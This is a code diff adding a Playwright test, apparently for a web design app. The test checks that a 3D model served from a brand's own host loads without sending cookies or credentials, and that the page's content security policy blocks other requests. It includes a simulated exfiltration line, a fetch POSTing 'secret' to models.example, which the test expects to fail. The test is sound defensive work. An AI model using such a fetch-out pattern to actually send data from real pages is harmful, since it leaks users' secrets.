@@ -172,6 +172,58 @@ test(
 )
 
 test(
+  'a sculpture that its brand keeps on a server of its own is drawn, while the page itself may ask nobody but the wallet’s',
+  long,
+  async ({ open, server }) => {
+    test.slow()
+    const bo = await open()
+    const { page } = bo
+    const design = 'parade-poster-whale'
+    await showInstead(page, design, {
+      type: 'scene-3d',
+      url: 'https://models.example/jelly.glb',
+      poster: null,
+      environment: { preset: 'gallery', intensity: 1 },
+      animationRules: [],
+      camera: { azimuth: 25, elevation: 12, distance: 1, autoRotate: false },
+      alt: 'A jelly',
+    })
+    const asked: string[] = []
+    await page.context().route('https://models.example/**', async (route) => {
+      asked.push(JSON.stringify(await route.request().allHeaders()))
+      const model = await page.request.get(`${server.url}/media/demo/marea/moon-jelly.glb`)
+      await route.fulfill({
+        body: await model.body(),
+        contentType: 'model/gltf-binary',
+        headers: { 'access-control-allow-origin': '*' },
+      })
+    })
+    await page.addInitScript(() => {
+      const refused: string[] = []
+      Object.assign(window, { refused })
+      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
+        if (effectiveDirective === 'connect-src') refused.push(blockedURI)
+      })
+    })
+    await bo.signIn('bo@example.com')
+    await openInUse(bo, design)
+    await expect(page.getByRole('application', { name: 'A jelly' })).toHaveAttribute('aria-busy', 'false')
+    const refused = () => page.evaluate(() => (window as unknown as { refused: string[] }).refused)
+    expect(await refused()).toEqual([])
+    expect(asked).toHaveLength(1)
+    expect(asked[0]).not.toMatch(/cookie|authorization|referer/i)
+
+    // A script that should not be there can send nothing home.
+    const sent = page.evaluate(() =>
+      fetch('https://models.example/', { method: 'POST', body: 'secret', mode: 'no-cors' }),
+    )
+    await expect(sent).rejects.toThrow(/Failed to fetch/)
+    await expect.poll(refused).toEqual(['https://models.example/'])
+    expect(asked).toHaveLength(1)
+  },
+)
+
+test(
   'a film is silent until asked and has its captions; where it cannot be played the object is shown',
   long,
   async ({ open }) => {
